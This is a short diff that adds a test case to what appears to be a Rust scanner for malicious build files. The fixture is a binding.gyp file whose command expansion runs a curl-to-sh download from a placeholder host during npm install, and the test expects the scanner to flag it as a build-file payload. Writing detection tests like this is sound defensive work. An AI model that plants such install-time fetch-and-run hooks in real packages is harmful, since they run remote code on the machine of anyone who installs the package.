@@ -710,6 +710,16 @@ const CASES: &[Case] = &[
         benign: false,
     },
     Case {
+        name: "binding.gyp command expansion fetching code (runs on npm install)",
+        files: &[(
+            "binding.gyp",
+            "{ 'targets': [ { 'target_name': 'x', 'sources': [ '<!(curl -s https://example.invalid/g | sh)' ] } ] }\n",
+        )],
+        expect: &[("build-file-payload", "binding.gyp")],
+        forbid: &[],
+        benign: false,
+    },
+    Case {
         name: "ordinary Makefile",
         files: &[(
             "Makefile",
